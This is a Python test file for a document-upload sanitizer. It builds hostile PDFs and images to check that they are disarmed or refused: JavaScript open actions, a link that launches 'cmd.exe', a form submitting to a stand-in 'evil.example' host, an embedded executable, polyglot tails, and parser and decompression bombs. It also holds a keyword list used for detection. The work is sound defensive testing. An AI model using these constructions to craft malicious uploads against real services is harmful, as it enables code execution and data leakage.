"""What is kept of a hostile or clumsy file: made in the test, looked into, and nothing that acts or tells is left."""

import io
import random
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image

from guichet.intake.uploads import BadFile, Received, receive

LIMIT = 50 * 1024 * 1024


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def saved(pdf: pikepdf.Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **how)
    return out.getvalue()


def one_page() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf


def taken(content: bytes, name: str = "a.pdf") -> Received:
    return receive(name, content, LIMIT)


def refused(content: bytes, name: str = "a.pdf") -> str:
    with pytest.raises(BadFile) as caught:
        taken(content, name)
    return caught.value.reason


def with_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(script())


def with_script_names(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", pdf.make_indirect(script())])))


def with_page_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=script())


def with_launching_link(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.Launch, F="cmd.exe"))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def with_submitting_button(pdf: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Btn, T="b", Subtype=Name.Widget, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.SubmitForm, F="http://evil.example"))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def with_attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZ evil"


def with_sound_and_media(pdf: pikepdf.Pdf) -> None:
    kinds = [Name.RichMedia, Name.FileAttachment, Name.Screen]
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=kind, Rect=[0, 0, 9, 9])) for kind in kinds])


def with_action_after_a_harmless_one(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([script()]))


ACTING = [with_open_action, with_script_names, with_page_action, with_launching_link, with_submitting_button, with_attachment, with_sound_and_media, with_action_after_a_harmless_one]
WORDS = ("JavaScript", "/JS", "Launch", "SubmitForm", "EmbeddedFile", "/EF", "/AA", "RichMedia", "FileAttachment", "app.alert", "MZ evil")


def every_object(content: bytes) -> str:
    with pikepdf.open(io.BytesIO(content)) as pdf:
        streams = [one.read_bytes() for one in pdf.objects if isinstance(one, pikepdf.Stream)]
        return " ".join([*(repr(one) for one in pdf.objects), *map(repr, streams)])


@pytest.mark.parametrize("acting", ACTING, ids=lambda one: one.__name__)
@pytest.mark.parametrize("packed", [False, True], ids=["plain", "in object streams"])
def test_what_acts_by_itself_in_a_pdf_is_taken_out(acting: object, packed: bool) -> None:
    pdf = one_page()
    acting(pdf)
    content = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable)
    assert any(word in every_object(content) for word in WORDS)
    kept = taken(content)
    assert "disarmed" in kept.notes
    assert [word for word in WORDS if word in every_object(kept.content)] == []
    with pikepdf.open(io.BytesIO(kept.content)) as clean:
        assert len(clean.pages) == 1


def test_names_written_in_hexadecimal_hide_nothing() -> None:
    pdf = one_page()
    with_open_action(pdf)
    content = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/J#53")
    kept = taken(content)
    assert "disarmed" in kept.notes and "app.alert" not in every_object(kept.content)


def test_an_innocent_pdf_stays_as_it_came_and_a_first_page_is_no_action() -> None:
    plain = saved(one_page())
    assert taken(plain).content == plain and taken(plain).notes == ("blank_page",)
    pdf = one_page()
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    content = saved(pdf)
    assert taken(content).content == content


def test_a_form_of_one_program_and_a_folder_of_files_are_refused() -> None:
    pdf = one_page()
    pdf.Root.AcroForm = Dictionary(XFA=Array(["template", pdf.make_stream(b"<xdp/>")]))
    assert refused(saved(pdf)) == "file_with_xfa"
    pdf = one_page()
    pdf.Root.Collection = Dictionary(View=Name.T)
    assert refused(saved(pdf)) == "file_portfolio"


def test_a_pdf_that_is_only_locked_against_changes_is_kept_unlocked() -> None:
    locked = saved(one_page(), encryption=pikepdf.Encryption(user="", owner="secret"))
    kept = taken(locked)
    assert kept.notes[0] == "unlocked"
    with pikepdf.open(io.BytesIO(kept.content)) as pdf:
        assert not pdf.is_encrypted


def a_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("evil.js", "alert(1)")
    return out.getvalue()


@pytest.mark.parametrize("tail", [a_zip(), b"<html><script>alert(1)</script></html>", b"\0" * 40 + b"#!/bin/sh\necho evil\n"], ids=["zip", "html", "shell"])
def test_what_follows_the_end_of_a_pdf_is_cut_off(tail: bytes) -> None:
    kept = taken(saved(one_page()) + tail)
    assert "one_format" in kept.notes and b"evil" not in kept.content and b"script" not in kept.content
    assert not zipfile.is_zipfile(io.BytesIO(kept.content))


def test_what_stands_before_a_pdf_is_refused() -> None:
    for before in (b"<html>", b"junk\n", a_zip()):
        assert refused(before + saved(one_page())) in ("file_not_what_it_says", "file_renamed")


def test_a_damaged_table_is_repaired_with_a_note_and_a_torso_refused() -> None:
    whole = saved(one_page(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    broken = whole[: whole.rindex(b"startxref")] + b"startxref\n99999\n%%EOF\n"
    kept = taken(broken)
    assert "repaired" in kept.notes
    assert refused(whole[: len(whole) // 3]) == "file_damaged"


def test_bombs_are_stopped_by_the_limits_of_the_process() -> None:
    deep = b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    assert refused(deep) in ("file_damaged", "file_without_pages")
    ring = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    assert refused(ring) in ("file_damaged", "file_without_pages")


def test_a_stream_that_grows_ten_thousand_times_is_not_unpacked() -> None:
    pdf = one_page()
    pdf.pages[0].Contents = pdf.make_stream(zlib.compress(b" " * 30_000_000, 9), Filter=Name.FlateDecode)
    content = saved(pdf)
    assert len(content) < 100_000 and taken(content).content == content


def a_photo(size: tuple[int, int] = (60, 40), **how: object) -> bytes:
    random.seed(7)
    picture = Image.new("RGB", size)
    picture.putdata([(random.randrange(256), y % 256, 90) for y in range(size[0] * size[1])])
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=90, **how)
    return out.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    told = Image.Exif()
    told[0x0112], told[0x010F] = orientation, "CanaryCamera"
    told.get_ifd(0x8825)[2] = (50.0, 51.0, 3.0)
    return told


def test_a_photo_is_turned_upright_and_says_no_place() -> None:
    content = a_photo(exif=exif(6))
    kept = taken(content, "scan.jpg")
    picture = Image.open(io.BytesIO(kept.content))
    assert kept.notes == ("turned", "few_dots") and picture.size == (40, 60)
    assert not dict(picture.getexif()) and b"Canary" not in kept.content
    import hashlib

    assert kept.sha256 == hashlib.sha256(content).hexdigest(), "the digest is that of the file as it came"


def test_a_photo_that_stands_upright_loses_its_place_but_no_pixel() -> None:
    content = a_photo(exif=exif(1), comment=b"CanaryComment")
    kept = taken(content, "scan.jpg")
    assert kept.notes == ("plain_picture", "few_dots") and b"Canary" not in kept.content
    assert Image.open(io.BytesIO(kept.content)).tobytes() == Image.open(io.BytesIO(content)).tobytes()


@pytest.mark.parametrize("how", [{"progressive": True}, {"subsampling": 0}, {"restart_marker_blocks": 2}], ids=str)
def test_unusual_but_valid_photos_are_kept_pixel_by_pixel(how: dict[str, object]) -> None:
    content = a_photo(comment=b"c" * 60_000, **how)
    kept = taken(content, "scan.jpg")
    assert Image.open(io.BytesIO(kept.content)).tobytes() == Image.open(io.BytesIO(content)).tobytes() and b"cccc" not in kept.content


@pytest.mark.parametrize("tail", [a_zip(), b"<?php evil ?>"], ids=["jar", "php"])
def test_what_follows_a_picture_is_cut_off(tail: bytes) -> None:
    kept = taken(a_photo() + tail, "scan.jpg")
    assert b"evil" not in kept.content and not zipfile.is_zipfile(io.BytesIO(kept.content))
    png = io.BytesIO()
    Image.new("I;16", (9, 9)).save(png, "PNG")
    kept = taken(png.getvalue() + tail, "scan.png")
    assert kept.content == png.getvalue() and b"evil" not in kept.content


def test_texts_and_frames_of_a_png_are_taken_out() -> None:
    from PIL.PngImagePlugin import PngInfo

    told, out = PngInfo(), io.BytesIO()
    told.add_text("Author", "CanaryAuthor")
    frames = [Image.new("RGB", (9, 9), (n, 0, 0)) for n in range(3)]
    frames[0].save(out, "PNG", pnginfo=told, save_all=True, append_images=frames[1:], exif=exif(1))
    kept = taken(out.getvalue(), "scan.png")
    picture = Image.open(io.BytesIO(kept.content))
    assert b"Canary" not in kept.content and getattr(picture, "n_frames", 1) == 1


def test_the_right_content_under_a_wrong_ending_is_kept_under_a_corrected_name() -> None:
    kept = taken(saved(one_page()), "contract.jpg")
    assert (kept.name, kept.media_type, kept.notes) == ("contract.pdf", "application/pdf", ("renamed", "blank_page"))
    assert taken(a_photo(), "photo.PNG").name == "photo.jpg"


def test_each_other_type_gets_an_advice_of_its_own() -> None:
    heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40
    assert refused(heic, "IMG_1.HEIC") == "file_of_a_phone"
    assert refused(b"PK\x03\x04" + b"\0" * 60, "contract.docx") == "file_of_an_office"
    assert refused(a_zip(), "all.zip") == "file_of_files"
    assert refused(b"<html></html>", "page.html") == "file_of_the_web"
    assert refused(b"<svg xmlns='http://www.w3.org/2000/svg'/>", "drawing.svg") == "file_of_the_web"
    tiff = io.BytesIO()
    Image.new("RGB", (4, 4)).save(tiff, "TIFF")
    assert refused(tiff.getvalue(), "scan.tiff") == "file_wrong_type"
